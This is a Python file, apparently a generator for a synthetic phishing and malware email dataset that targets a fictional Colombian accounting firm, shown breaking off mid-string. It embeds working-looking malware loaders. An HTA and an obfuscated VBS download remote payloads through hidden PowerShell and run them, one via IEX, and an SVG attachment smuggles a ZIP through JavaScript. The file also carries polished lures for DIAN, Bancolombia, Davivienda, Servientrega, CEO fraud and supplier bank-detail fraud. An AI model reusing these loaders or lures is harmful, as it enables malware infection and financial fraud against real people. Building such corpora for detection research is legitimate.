    "dkim_ef": (-0.1, "DKIM_VALID_EF", "Message has a valid DKIM or DK signature from envelope-from domain"),
    "dmarc_pass": (-0.1, "DMARC_PASS", "DMARC pass policy"),
    "dmarc_missing": (0.1, "DMARC_MISSING", "Missing DMARC policy"),
    "dnswl_none": (0.0, "RCVD_IN_DNSWL_NONE", "RBL: Sender listed at https://www.dnswl.org/, no trust"),
    "dnswl_low": (-0.7, "RCVD_IN_DNSWL_LOW", "RBL: Sender listed at https://www.dnswl.org/, low trust"),
    "dnswl_hi": (-5.0, "RCVD_IN_DNSWL_HI", "RBL: Sender listed at https://www.dnswl.org/, high trust"),
    "msps": (-0.0, "RCVD_IN_MSPIKE_H2", "RBL: Average reputation (+2)"),
    "uribl_blocked": (0.0, "URIBL_BLOCKED", "ADMINISTRATOR NOTICE: The query to URIBL was blocked."),
    "freemail": (0.0, "FREEMAIL_FROM", "Sender email is commonly abused enduser mail provider"),
    "hdr_diff": (0.2, "HEADER_FROM_DIFFERENT_DOMAINS", "From and EnvelopeFrom 2nd level mail domains are different"),
    "remote_img": (0.0, "T_REMOTE_IMAGE", "Message contains an external image"),
    "scc": (-0.0, "T_SCC_BODY_TEXT_LINE", "No description available."),
    "rdns_none": (1.3, "RDNS_NONE", "Delivered to internal network by a host with no rDNS"),
    "all_trusted": (-1.0, "ALL_TRUSTED", "Passed through trusted hosts only via SMTP"),
    "pdf_attach": (0.0, "T_PDF_ATTACHED", "No description available."),
    "obfu_attach": (0.5, "T_OBFU_ATTACH_MISSP", "Obfuscated attachment type and misspaced"),
    "kam_dmarc_none": (0.25, "KAM_DMARC_NONE", "DKIM has been signed but no DMARC record"),
    "kam_tracking": (0.1, "KAM_TRACKIMAGE", "No description available."),
    "mpart_alt_diff": (0.7, "MPART_ALT_DIFF", "BODY: HTML and text parts are different"),
    "subj_caps": (0.5, "SUBJ_ALL_CAPS", "Subject is all capitals"),
    "to_in_subj": (0.1, "TO_IN_SUBJ", "To address is in Subject"),
    "list_unsub": (-0.1, "DKIM_VALID_AU", "Message has a valid DKIM or DK signature from author's domain"),
}


def sa(*keys: str) -> tuple[float, list]:
    tests = [SA[k] for k in keys]
    return round(sum(t[0] for t in tests), 1), tests


HTA_FACTURA = """<html><head><title>Factura Electronica</title>
<HTA:APPLICATION ID="fe" APPLICATIONNAME="FacturaElectronica" BORDER="none" SHOWINTASKBAR="no" WINDOWSTATE="minimize">
<script language="VBScript">
Dim s, k, u
k = "cmd /c po" & "wershell -nop -w 1 -c "
u = "$r=[char]104+'ttps://fe-soportes-co.com/img/logo.jpg';$o=$env:PUBLIC+'\\Libraries\\fe.zip';" & _
    "iwr $r -OutFile $o;Expand-Archive $o ($env:PUBLIC+'\\Libraries\\fe') -Force;" & _
    "& ($env:PUBLIC+'\\Libraries\\fe\\AutoHotkey.exe') ($env:PUBLIC+'\\Libraries\\fe\\script.ahk')"
Set s = CreateObject("WScript.Shell")
s.Run k & Chr(34) & u & Chr(34), 0, False
window.close()
</script></head><body></body></html>
"""

VBS_DIAN = r''''  DIAN - Documento de Requerimiento
Dim objShell, strCmd, p1, p2
p1 = "pow" : p2 = "ershell.exe"
strCmd = " -NoP -NonI -W Hidden -Exec Bypass -Command ""$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');" & _
         "$b=$w.DownloadString('https://paste-dian-co.duckdns.org/raw/rq2024');IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))"""
Set objShell = CreateObject("Shell.Application")
objShell.ShellExecute p1 & p2, strCmd, "", "open", 0
WScript.Sleep 3000
MsgBox "El documento esta danado o fue abierto con una version no compatible.", 16, "Visor PDF"
'''


def co_dian_pwzip_vbs() -> None:
    slug = "co-dian-requerimiento-zip-clave"
    t = T(2024, 6, 11, 9, 3, 41, -5)
    rcpt = "contabilidad@rinconvelez.com.co"
    score, tests = sa("bayes50", "spf_pass", "spf_helo_none", "html", "dmarc_missing", "dnswl_none", "obfu_attach", "mpart_alt_diff", "scc")
    top, tail = rx_cpanel(slug, t=t, rcpt=rcpt, ip="38.54.31.107", host="mail.notificaciones-dian.com",
                          mailfrom="notificaciones@notificaciones-dian.com", spf="pass", dkim=None, dmarc="none",
                          from_dom="notificaciones-dian.com", score=score, tests=tests)
    hops = [f"Received: from WIN-Q4N1RB2E8TL (unknown [181.57.204.33])\n\tby mail.notificaciones-dian.com (Postfix) with ESMTPA id 8F2C1A03B7\n"
            f"\tfor <{rcpt}>; {rfc(t - timedelta(seconds=4))}"]
    orig = [f"From: {addr('DIAN - Notificaciones Electrónicas', 'notificaciones@notificaciones-dian.com', 'utf-8', 'B')}",
            f"To: {rcpt}",
            f"Subject: {ew('Requerimiento Ordinario No. 132472024000187 - Inicio de proceso de cobro coactivo', 'utf-8', 'B')}",
            f"Date: {rfc(t)}",
            f"Message-ID: <{hx(slug, 8)}-{hx(slug + 'a', 4)}-{hx(slug + 'b', 4)}-{hx(slug + 'c', 4)}-{hx(slug + 'd', 12)}@notificaciones-dian.com>",
            "MIME-Version: 1.0",
            "X-Mailer: Microsoft Outlook 16.0"]
    html = """<html><body style="font-family:Arial;font-size:13px">
<p><b>DIRECCIÓN DE IMPUESTOS Y ADUANAS NACIONALES - DIAN</b><br>Dirección Seccional de Impuestos de Bogotá<br>División de Gestión de Fiscalización</p>
<p>Señor(a) contribuyente:</p>
<p>Por medio del presente se le notifica el <b>Requerimiento Ordinario No. 132472024000187</b>, relacionado con inconsistencias detectadas en la información exógena y en la declaración de renta del año gravable 2023.</p>
<p>De no dar respuesta dentro de los <b>quince (15) días</b> siguientes a la notificación, se dará inicio al proceso de cobro coactivo y al embargo de cuentas bancarias conforme al Estatuto Tributario.</p>
<p>Se adjunta el documento en formato comprimido. Por seguridad de la información tributaria el archivo está protegido.</p>
<p><b>Contraseña del archivo: 2024</b></p>
<p>Atentamente,<br>Grupo de Notificaciones<br>DIAN</p>
</body></html>
"""
    plain = ("DIRECCION DE IMPUESTOS Y ADUANAS NACIONALES - DIAN\n\nSe le notifica el Requerimiento Ordinario No. 132472024000187.\n"
             "Se adjunta el documento comprimido. Contraseña del archivo: 2024\n\nGrupo de Notificaciones DIAN\n")
    z = zip_crypto([("Requerimiento_DIAN_132472024000187.pdf.vbs", VBS_DIAN.encode("latin-1"))], "2024", slug)
    body = Multi("mixed", boundary(slug, "outlook_mixed"), [
        Multi("alternative", boundary(slug, "outlook"), [text(plain), text(html, "html")]),
        attachment("application/x-zip-compressed", "Requerimiento_DIAN_132472024000187.zip", z),
    ])
    add("malware", "phish", slug,
        "DIAN 'requerimiento ordinario / cobro coactivo' with a password-protected ZIP (password 2024 in the body) holding a double-extension .pdf.vbs loader; look-alike domain, SPF pass only.",
        hdr(top, hops, orig, tail), body)


def co_factura_zip_hta() -> None:
    slug = "co-factura-electronica-zip-hta"
    t = T(2023, 11, 21, 15, 44, 19, -5)
    rcpt = "luisa.gomez@rinconvelez.com.co"
    srv = "host24.colombiahosting.net"
    dom = "papeleradelcentro.com.co"
    score, tests = sa("bayes05", "spf_pass", "spf_helo_pass", "dkim_signed", "dkim_valid", "dkim_au", "dkim_ef", "html",
                      "dmarc_missing", "dnswl_none", "scc")
    top, tail = rx_cpanel(slug, t=t, rcpt=rcpt, ip="200.58.117.24", host=srv, mailfrom=f"facturacion@{dom}",
                          spf="pass", dkim="pass", dkim_d=dom, dmarc="none", from_dom=dom, score=score, tests=tests)
    hops = cpanel_sender_hop(slug, t - timedelta(seconds=2), srv, f"facturacion@{dom}")
    subj = "900812345;DISTRIBUIDORA PAPELERA DEL CENTRO S.A.S.;FE4521;01;DISTRIBUIDORA PAPELERA DEL CENTRO S.A.S."
    orig = [dkim_sig(dom, "default", slug, t,
                     "Content-Type:Message-ID:Subject:To:From:Date:MIME-Version:Sender:Reply-To:Cc:Content-Transfer-Encoding"),
            "MIME-Version: 1.0",
            f"Date: {rfc(t)}",
            f"From: {addr('Facturación DPC', f'facturacion@{dom}', 'UTF-8', 'Q')}",
            f"To: {rcpt}",
            f"Subject: {subj}",
            f"Message-ID: <{hx(slug, 32)}@{dom}>",
            f"X-Sender: facturacion@{dom}",
            "User-Agent: Roundcube Webmail/1.6.0"]
    orig += antiabuse(srv, RV, dom, f"facturacion@{dom}")
    plain = """Señores
RINCON & VELEZ CONTADORES ASOCIADOS S.A.S.
NIT 901.245.873-1

Reciba un cordial saludo.

Adjuntamos la factura electrónica de venta FE4521 correspondiente al suministro de papelería y tóner del mes de noviembre, por valor de $1.874.300.

Agradecemos dar acuse de recibo y aceptación de la factura dentro de los tres (3) días hábiles siguientes, de lo contrario se entenderá aceptada tácitamente.

Cordialmente,

Área de Facturación
Distribuidora Papelera del Centro S.A.S.
PBX (601) 743 2280
"""
    z = files.zip_archive([("Factura_Electronica_FE4521.hta", HTA_FACTURA.encode("latin-1"))])
    body = Multi("mixed", boundary(slug, "roundcube"), [
        text(plain, "plain", "quoted-printable", "UTF-8"),
        Leaf("application/zip", z, "base64", '; name="z09008123450002300004521.zip"',
             'attachment; filename="z09008123450002300004521.zip"; size=' + str(len(z))),
    ])
    add("malware", "phish", slug,
        "Mekotio-style Colombian factura electrónica from a supplier's compromised cPanel mailbox, using the DIAN subject format; the ZIP holds an HTA that fetches an AutoHotkey loader.",
        hdr(top, hops, orig, tail), body)


def co_bancolombia_qr_pdf() -> None:
    slug = "co-bancolombia-actualizacion-datos-qr-pdf"
    t = T(2025, 9, 2, 8, 22, 7, -5)
    rcpt = "jrincon@rinconvelez.com.co"
    dom = "bancolombia-comunicados.com"
    score, tests = sa("bayes05", "spf_pass", "spf_helo_pass", "dkim_signed", "dkim_valid", "dkim_au", "dkim_ef",
                      "kam_dmarc_none", "html", "pdf_attach", "dnswl_none", "scc")
    top, tail = rx_cpanel(slug, t=t, rcpt=rcpt, ip="45.90.217.33", host="mail.bancolombia-comunicados.com",
                          mailfrom=f"comunicados@{dom}", spf="pass", dkim="pass", dkim_d=dom, dmarc="none",
                          from_dom=dom, score=score, tests=tests)
    orig = [dkim_sig(dom, "mail", slug, t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
            f"From: {addr('Bancolombia', f'comunicados@{dom}', quote=False)}",
            f"To: {rcpt}",
            f"Subject: {ew('Actualización de datos obligatoria - Circular Superfinanciera 2025')}",
            f"Date: {rfc(t)}",
            f"Message-ID: <{hx(slug, 32)}@{dom}>",
            "MIME-Version: 1.0"]
    html = """<html><body style="font-family:'Open Sans',Arial,sans-serif;font-size:14px;color:#2c2a29">
<p>Apreciado(a) cliente,</p>
<p>En cumplimiento de la normatividad vigente de la Superintendencia Financiera de Colombia (SARLAFT), todos nuestros clientes deben actualizar sus datos antes del <b>15 de septiembre de 2025</b>.</p>
<p>Adjuntamos el comunicado oficial con las instrucciones. El proceso se realiza desde su celular escaneando el código QR.</p>
<p>Si no actualiza sus datos, algunos productos podrían quedar bloqueados temporalmente.</p>
<p>Gracias por confiar en nosotros.<br><b>Grupo Bancolombia</b></p>
</body></html>
"""
    qr_url = "https://bancolombia-actualizaciondatos.com/personas/?r=" + hx(slug + "r", 10)
    pdf = pdf_qr(["Bancolombia", "", "COMUNICADO - ACTUALIZACION DE DATOS", "", "Apreciado cliente:", "",
                  "Con el fin de dar cumplimiento al Sistema de Administracion del Riesgo de",
                  "Lavado de Activos (SARLAFT) es necesario que actualice sus datos personales",
                  "y de contacto antes del 15 de septiembre de 2025.", "",
                  "Escanee el siguiente codigo QR con la camara de su celular:"],
                 ["El proceso toma menos de 3 minutos. Tenga a la mano su tarjeta debito y la clave",
                  "de la Sucursal Virtual Personas.", "", "Bancolombia S.A. Establecimiento Bancario.",
                  "Linea de atencion: 601 343 0000"],
                 qr_url, "Comunicado Bancolombia", "Canva", "20250901172033-05'00'")
    body = Multi("mixed", boundary(slug, "thunderbird"), [
        text(html, "html"),
        attachment("application/pdf", "Comunicado_Actualizacion_Datos_Bancolombia.pdf", pdf),
    ])
    add("phishing", "phish", slug,
        "Bancolombia 'actualización de datos' whose only lure is a QR code inside the attached PDF (no clickable link), pointing to a look-alike credential page.",
        hdr(top, orig, tail), body)


def co_davivienda_token_mailjet() -> None:
    slug = "co-davivienda-token-digital-mailjet"
    t = T(2024, 3, 14, 11, 37, 28, -5)
    rcpt = "natalia.castano@rinconvelez.com.co"
    dom = "davivienda-token.com"
    score, tests = sa("bayes50", "spf_pass", "spf_helo_pass", "dkim_signed", "dkim_valid", "dkim_au", "html",
                      "remote_img", "dnswl_none", "msps", "kam_dmarc_none", "scc")
    mf = f"{b64url(slug + 'bnc', 22).lower()}@bnc3.mailjet.com"
    top, tail = rx_cpanel(slug, t=t, rcpt=rcpt, ip="185.189.236.17", host="o17.p25.mailjet.com",
                          mailfrom=mf, spf="pass", dkim="pass", dkim_d=dom, dmarc="none", from_dom=dom,
                          score=score, tests=tests)
    orig = [dkim_sig(dom, "mailjet", slug, t, "Subject:From:To:Message-Id:Date:MIME-Version:Content-Type:X-CSA-Complaints:X-Mailjet-Campaign:X-Mailjet-Debug:List-Unsubscribe:X-Feedback-Id"),
            f"Message-Id: <{guid(slug)}@mailjet.com>",
            f"Subject: {ew('Davivienda: su Token Digital será desactivado el 15/03/2024')}",
            f"From: {addr('Banco Davivienda', 'notificaciones@davivienda-token.com', quote=False)}",
            f"To: {rcpt}",
            f"Date: {rfc(utc(t))}",
            "MIME-Version: 1.0",
            "X-CSA-Complaints: csa-complaints@eco.de",
            f"X-Mailjet-Campaign: {num(slug, 1000000000, 9999999999)}",
            f"X-MJ-Mid: {b64s(slug + 'mjmid', 44)}",
            f"X-Feedback-Id: {num(slug + 'fb', 10000000, 99999999)}.{num(slug + 'fb2', 1000000, 9999999)}.{num(slug + 'fb3', 100000, 999999)}:MJ",
            f"List-Unsubscribe: <mailto:unsub-{b64url(slug + 'u', 20)}@bnc3.mailjet.com>"]
    click = f"https://{alnum(slug + 'mj', 6).lower()}.mjt.lu/lnk/{b64url(slug + 'lnk', 80)}/1/{b64url(slug + 'lnk2', 22)}/aHR0cHM6Ly9kYXZpdmllbmRhLXRva2VuLmNvbS9wZXJzb25hcy9hY3RpdmFy"
    html = f"""<!doctype html><html><head><meta charset="UTF-8"></head><body style="margin:0;background:#f2f2f2">
<div style="max-width:600px;margin:0 auto;background:#fff;font-family:Arial,Helvetica,sans-serif;color:#444">
<div style="background:#ed1c27;padding:18px 28px"><img src="https://{alnum(slug + 'mj', 6).lower()}.img.mjt.lu/tplimg/logo-davivienda.png" alt="Davivienda" height="36"></div>
<div style="padding:28px;font-size:15px;line-height:22px">
<p>Estimado cliente:</p>
<p>A partir del <b>15 de marzo de 2024</b> el Token físico y las versiones anteriores de la app dejarán de funcionar. Para seguir realizando transferencias y pagos PSE desde la Banca Empresarial, debe <b>activar su nuevo Token Digital</b>.</p>
<p style="text-align:center;margin:26px 0"><a href="{click}" style="background:#ed1c27;color:#fff;padding:13px 34px;text-decoration:none;border-radius:24px;font-weight:bold">Activar Token Digital</a></p>
<p style="font-size:12px;color:#888">Banco Davivienda S.A. Vigilado Superintendencia Financiera de Colombia.</p>
</div></div>
<img src="https://{alnum(slug + 'mj', 6).lower()}.mjt.lu/oo/{b64url(slug + 'oo', 60)}/{b64url(slug + 'oo2', 10)}/e.gif" height="1" width="1" alt="" border="0" style="height:1px;width:1px;border:0;">
</body></html>
"""
    body = alt(slug, f"Active su nuevo Token Digital Davivienda antes del 15/03/2024: {click}\n", html, "python")
    add("phishing", "phish", slug,
        "Davivienda 'active su nuevo Token Digital' lure sent through Mailjet from a look-alike domain; the button is a mjt.lu tracking redirect.",
        hdr(top, orig, tail), body)


def co_servientrega_novedad() -> None:
    slug = "co-servientrega-novedad-pago"
    t = T(2023, 9, 26, 13, 9, 50, -5)
    rcpt = "info@rinconvelez.com.co"
    score, tests = sa("bayes50", "spf_pass", "spf_helo_pass", "html_only", "hdr_diff", "dnswl_none", "dmarc_missing", "remote_img")
    srv = "vps-4471882.vpsserver.com.co"
    top, tail = rx_cpanel(slug, t=t, rcpt=rcpt, ip="190.8.176.92", host=srv,
                          mailfrom="webmaster@institutosanjosearmenia.edu.co", spf="pass", dkim=None, dmarc="none",
                          from_dom="servientrega-envios.com.co", score=score, tests=tests)
    hops = [f"Received: by {srv} (Postfix, from userid 33)\n\tid 5D8E4120A4D; {rfc(t - timedelta(seconds=1))}"]
    orig = [f"To: {rcpt}",
            f"Subject: {ew('Servientrega: su envío No. 2118447299 tiene una novedad')}",
            f"Date: {rfc(t)}",
            f"From: {addr('Servientrega', 'notificaciones@servientrega-envios.com.co', quote=False)}",
            f"Message-ID: <{hx(slug, 32)}@institutosanjosearmenia.edu.co>",
            "X-Mailer: PHPMailer 5.2.27 (https://github.com/PHPMailer/PHPMailer)",
            "MIME-Version: 1.0"]
    link = "https://servientrega-envios.com.co/rastreo/pago.php?guia=2118447299"
    html = f"""<html><body><table width="580" style="font-family:Arial;font-size:14px;border:1px solid #ddd">
<tr><td style="background:#00843d;padding:12px;color:#fff;font-size:20px"><b>Servientrega</b></td></tr>
<tr><td style="padding:20px">
<p>Hola,</p>
<p>Tu envío No. <b>2118447299</b> presenta una <b>novedad en la entrega</b>: dirección incompleta y saldo pendiente por concepto de reexpedición.</p>
<p>Valor a pagar: <b>$7.900</b></p>
<p>Para programar una nueva entrega confirma tu dirección y realiza el pago por PSE:</p>
<p><a href="{link}" style="background:#00843d;color:#fff;padding:10px 24px;text-decoration:none">Programar entrega</a></p>
<p style="font-size:11px;color:#777">Si no se programa la entrega en 48 horas el envío será devuelto. Servientrega S.A. - Centro de Soluciones.</p>
</td></tr></table>
<img src="https://servientrega-envios.com.co/img/pixel.gif?g=2118447299" width="1" height="1"></body></html>
"""
    body = text(html, "html", "quoted-printable", "iso-8859-1")
    add("phishing", "phish", slug,
        "Servientrega 'novedad en la entrega' $7.900 PSE payment lure mailed by a PHP script on a compromised school website (envelope and From domains differ).",
        hdr(top, hops, orig, tail), body)


def co_juzgado_svg_smuggling() -> None:
    slug = "co-juzgado-laboral-svg-smuggling"
    t = T(2024, 10, 8, 16, 51, 3, -5)
    rcpt = "jrincon@rinconvelez.com.co"
    dom = "transportesandinos.com.co"
    src = "SJ2PR14MB6733.namprd14.prod.outlook.com"
    score, tests = sa("bayes50", "spf_pass", "spf_helo_pass", "dkim_signed", "dkim_valid", "dkim_au", "dkim_ef",
                      "dmarc_pass", "html", "dnswl_none", "msps", "scc")
    top, tail = rx_cpanel(slug, t=t, rcpt=rcpt, ip="40.107.220.118", host="mail-bn8nam12on2118.outbound.protection.outlook.com",
                          mailfrom=f"asistente.juridica@{dom}", spf="pass", dkim="pass", dkim_d=dom, dmarc="pass",
                          from_dom=dom, score=score, tests=tests, tls="esmtps  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384")
    hops = ms_outbound_hops(slug, t - timedelta(seconds=1), src, "2603:10b6:a03:4b1::9",
                            "SJ0PR03CA0214.namprd03.prod.outlook.com", "2603:10b6:a03:39f::9")
    hops += ms_arc_out(slug, t, dom, "", dom)
    orig = [dkim_sig(dom, "selector1", slug, t,
                     "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", style="ms"),
            f"From: {addr('Juzgado 12 Laboral del Circuito de Bogotá', f'asistente.juridica@{dom}', 'iso-8859-1', 'Q')}",
            f"To: {addr('', rcpt)}",
            f"Subject: {ew('CITACIÓN AUDIENCIA - DEMANDA LABORAL RAD. 11001310501220240031500', 'iso-8859-1')}",
            "Thread-Topic: CITACION AUDIENCIA - DEMANDA LABORAL RAD. 11001310501220240031500",
            f"Thread-Index: {thread_index(slug)}",
            f"Date: {rfc(utc(t))}",
            f"Message-ID: {outlook_mid(slug, src)}",
            "Accept-Language: es-CO, en-US",
            "Content-Language: es-CO",
            "X-MS-Has-Attach: yes",
            "X-MS-TNEF-Correlator:",
            "MIME-Version: 1.0"]
    plain = """Rama Judicial del Poder Público
Juzgado Doce (12) Laboral del Circuito de Bogotá D.C.

Proceso: Ordinario Laboral de Primera Instancia
Radicado: 11001310501220240031500
Demandante: YEISON ANDRÉS PARRA MURILLO
Demandado: RINCON & VELEZ CONTADORES ASOCIADOS S.A.S.

De conformidad con la Ley 2213 de 2022 se notifica el auto admisorio de la demanda y se cita a la audiencia de conciliación obligatoria. Se adjunta la citación y el traslado de la demanda. El archivo adjunto solo puede ser visualizado desde un computador.

Cordialmente,

Secretaría
Juzgado 12 Laboral del Circuito de Bogotá
"""
    payload = files.zip_archive([("Traslado_Demanda_Rad_2024-00315.vbs", VBS_DIAN.replace("DIAN - Documento de Requerimiento", "Rama Judicial").encode("latin-1"))])
    b64 = base64.b64encode(payload).decode()
    svg = f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="800" height="600" viewBox="0 0 800 600">
<rect width="800" height="600" fill="#f5f5f5"/>
<text x="400" y="260" font-family="Arial" font-size="22" text-anchor="middle" fill="#333">Rama Judicial - Consejo Superior de la Judicatura</text>
<text x="400" y="300" font-family="Arial" font-size="16" text-anchor="middle" fill="#666">Cargando documento del proceso 11001310501220240031500...</text>
<script type="text/javascript"><![CDATA[
(function(){{var d="{b64}";
var b=atob(d),n=b.length,u=new Uint8Array(n);while(n--){{u[n]=b.charCodeAt(n);}}
var f=new Blob([u],{{type:"application/zip"}});var a=document.createElementNS("http://www.w3.org/1999/xhtml","a");
a.href=URL.createObjectURL(f);a.download="Citacion_Audiencia_Rad_2024-00315.zip";document.documentElement.appendChild(a);a.click();}})();
]]></script>
</svg>
"""
    body = Multi("mixed", boundary(slug, "outlook_mixed"), [
        Multi("alternative", boundary(slug, "outlook"), [text(plain), text("<html><body><div style=\"font-family:Calibri;font-size:11pt\">" + plain.replace("\n", "<br>\n") + "</div></body></html>\n", "html")]),
        attachment("image/svg+xml", "Citacion_Demanda_Laboral_Rad_2024-00315.svg", svg.encode()),
    ])
    add("malware", "phish", slug,
        "Labour-court summons from a compromised transport company's M365 mailbox (all auth pass); the SVG attachment smuggles a ZIP with a VBS loader via JavaScript when opened.",
        hdr(top, hops, orig, tail), body)


def co_webmail_cuota_pages_dev() -> None:
    slug = "co-webmail-cpanel-cuota-spoof"
    t = T(2023, 5, 16, 7, 12, 44, -5)
    rcpt = "contabilidad@rinconvelez.com.co"
    score, tests = sa("bayes50", "spf_soft", "spf_helo_none", "html_only", "rdns_none", "to_in_subj", "dmarc_missing", "remote_img")
    top, tail = rx_cpanel(slug, t=t, rcpt=rcpt, ip="91.92.246.118", host="91.92.246.118", helo="mail.rinconvelez.com.co",
                          mailfrom="cpanel@rinconvelez.com.co", spf="softfail", dkim=None, dmarc="none",
                          from_dom=RV, score=score, tests=tests, tls="esmtp")
    orig = [f"From: {addr('Administrador del Servidor', 'cpanel@rinconvelez.com.co', quote=False)}",
            f"To: {rcpt}",
            f"Subject: {ew('Aviso: la cuenta contabilidad@rinconvelez.com.co ha alcanzado el 98% de su cuota')}",
            f"Date: {rfc(t)}",
            "MIME-Version: 1.0",
            f"Message-ID: <{hx(slug, 20)}$@rinconvelez.com.co>",
            "X-Priority: 1"]
    link = f"https://webmail-rinconvelez-com-co.pages.dev/?email={rcpt}"
    html = f"""<html><body style="font-family:'Open Sans',Arial,sans-serif;font-size:14px;color:#293a4a">
<table width="600" style="border:1px solid #d5d5d5"><tr><td style="background:#293a4a;padding:14px;color:#fff;font-size:18px">cPanel&reg; Webmail</td></tr>
<tr><td style="padding:22px">
<p>Estimado usuario <b>{rcpt}</b>,</p>
<p>Su buzón de correo ha alcanzado el <b>98%</b> de la cuota asignada (1.96 GB de 2 GB).</p>
<div style="background:#e5e5e5;width:100%;height:16px"><div style="background:#d9534f;width:98%;height:16px"></div></div>
<p>Los mensajes entrantes serán <b>rechazados</b> y devueltos al remitente a partir de las próximas 24 horas. Para ampliar su almacenamiento sin costo, inicie sesión y confirme la cuenta:</p>
<p><a href="{link}" style="background:#179bd7;color:#fff;padding:10px 22px;text-decoration:none;border-radius:3px">Aumentar cuota ahora</a></p>
<p style="font-size:12px;color:#888">Este mensaje fue generado automáticamente por el servidor de correo de rinconvelez.com.co.<br>&copy; 2023 cPanel, L.L.C.</p>
</td></tr></table></body></html>
"""
    body = text(html, "html")
    add("phishing", "phish", slug,
        "cPanel webmail 'cuota al 98%' lure spoofing the firm's own domain from a bare VPS (SPF softfail, no DKIM, no DMARC record), link to a Cloudflare pages.dev login clone.",
        hdr(top, orig, tail), body)


def co_ceo_transferencia_lookalike() -> None:
    slug = "co-ceo-transferencia-lookalike-co"
    t = T(2024, 12, 19, 10, 6, 31, -5)
    rcpt = "tesoreria@rinconvelez.com.co"
    dom = "rinconvelez.co"
    score, tests = sa("bayes05", "spf_pass", "spf_helo_none", "dkim_signed", "dkim_valid", "dkim_au", "dkim_ef",
                      "kam_dmarc_none", "html", "dnswl_none", "scc")
    top, tail = rx_cpanel(slug, t=t, rcpt=rcpt, ip="198.54.122.61", host="mta-61-out.privateemail.com",
                          mailfrom=f"jrincon@{dom}", spf="pass", dkim="pass", dkim_d=dom, dmarc="none", from_dom=dom,
                          score=score, tests=tests)
    hops = [f"Received: from mta-61.privateemail.com (localhost [127.0.0.1])\n\tby mta-61.privateemail.com (Postfix) with ESMTP id 4YDmTq0hTKz3hhVB\n"
            f"\tfor <{rcpt}>; Thu, 19 Dec 2024 10:06:31 -0500 (EST)",
            f"Received: from APP-07 (unknown [10.50.14.207])\n\tby mta-61.privateemail.com (Postfix) with ESMTPA;\n\tThu, 19 Dec 2024 10:06:29 -0500 (EST)"]
    orig = [dkim_sig(dom, "default", slug, t, "Date:From:To:Subject:From",
                     c="simple/simple"),
            f"Date: {rfc(t)}",
            f"From: {addr('Jaime Rincón Ortiz', f'jrincon@{dom}', 'UTF-8', 'Q')}",
            f"To: {addr('Natalia Castaño', rcpt, 'UTF-8', 'Q')}",
            f"Message-ID: <{num(slug, 100000000, 999999999)}.{num(slug + 'b', 100000, 999999)}.{epoch(t)}{num(slug + 'c', 100, 999)}@privateemail.com>",
            "Subject: Transferencia hoy",
            "MIME-Version: 1.0",
            "X-Priority: 3",
            "Importance: Normal",
            "X-Mailer: Open-Xchange Mailer v7.10.6-Rev62",
            "X-Originating-Client: open-xchange-appsuite"]
    plain = """Natalia buenos días,

Necesito que me colabores hoy con una transferencia a un proveedor nuevo, es el anticipo del contrato de la auditoría de Inversiones Guayacán que cerramos ayer. Son $38.500.000. Debe salir antes de las 12 porque el banco cierra temprano por las festividades.

Estoy en junta con los socios y no puedo atender llamadas, por favor escríbeme solo por acá y te paso los datos de la cuenta. No lo comentes todavía con el resto del equipo que el cliente pidió confidencialidad.

Gracias,

Jaime Rincón Ortiz
Socio Director
Rincón & Vélez Contadores Asociados
"""
    html = ('<!doctype html>\n<html>\n <head> \n  <meta charset="UTF-8"> \n </head>\n <body>\n'
            + "".join(f"  <div class=\"default-style\">\n   {ln or '<br>'}\n  </div>\n" for ln in plain.strip().split("\n"))
            + " </body>\n</html>\n")
    body = alt(slug, plain, html, "python")
    add("phishing", "phish", slug,
        "CEO fraud from the look-alike domain rinconvelez.co (Namecheap Private Email, own SPF/DKIM pass) asking the treasurer for a confidential $38.5M transfer before noon, no link.",
        hdr(top, hops, orig, tail), body)


def co_bec_arrendador_comprometido() -> None:
    slug = "co-bec-arrendador-canon-comprometido"
    t = T(2024, 12, 3, 9, 41, 17, -5)
    rcpt = "tesoreria@rinconvelez.com.co"
    dom = "inmosantabarbara.com.co"
    score, tests = sa("bayes00", "spf_pass", "spf_helo_none", "dkim_signed", "dkim_valid", "dkim_au", "dkim_ef",
                      "dmarc_pass", "html", "dnswl_none", "scc")
    top, tail = rx_cpanel(slug, t=t, rcpt=rcpt, ip="209.85.128.171", host="mail-yw1-f171.google.com",
                          mailfrom=f"cartera@{dom}", spf="pass", dkim="pass", dkim_d=dom, dmarc="pass", from_dom=dom,
                          score=score, tests=tests, tls="esmtps  (TLS1.3) tls TLS_AES_128_GCM_SHA256")
    hops = [f"Received: by mail-yw1-f171.google.com with SMTP id 00721157ae682-6ef4bbfd0c8so41886447b3.2\n"
            f"        for <{rcpt}>; {pacific(t)}",
            f"X-Gm-Message-State: AOJu0Y{b64s(slug + 'st', 58)}",
            f"X-Google-Smtp-Source: AGHT+I{b64s(slug + 'gs', 86)}",
            f"X-Received: by 2002:a05:690c:{hx(slug + 'a', 4)}:b0:6ef:{hx(slug + 'b', 4)}:{hx(slug + 'c', 4)} with SMTP id "
            f"00721157ae682-{hx(slug + 'd', 11)}.{num(slug, 10, 99)}.{epoch(t)}{num(slug + 'e', 100, 999)};\n        {pacific(t)}"]
    prev = gmail_mid(slug + "prev")
    orig = [dkim_sig(dom, "google", slug, t,
                     "to:subject:message-id:date:from:in-reply-to:references:mime-version:from:to:cc:subject:date:message-id:reply-to",
                     style="google", x_expire=True, extra=RV),
            "MIME-Version: 1.0",
            f"References: {prev}",
            f"In-Reply-To: {prev}",
            f"From: {addr('Cartera Inmobiliaria Santa Bárbara', f'cartera@{dom}', 'UTF-8', 'Q')}",
            f"Date: {rfc(t)}",
            f"Message-ID: {gmail_mid(slug)}",
            f"Subject: {ew('Re: Canon de arrendamiento Oficina 502 - Edificio Torre 93 - Diciembre 2024')}",
            f"To: {rcpt}"]
    reply = """Buenos días Natalia,

Muchas gracias por el soporte de noviembre. Te comentamos que a partir del canon de diciembre los pagos deben consignarse en la nueva cuenta de la inmobiliaria, ya que la cuenta corriente de Davivienda quedó exclusivamente para la administración del edificio:

Banco: Bancolombia
Tipo: Cuenta de Ahorros
Número: 236-441872-19
Titular: Santa Bárbara Gestión Inmobiliaria
NIT: 901.588.274-6

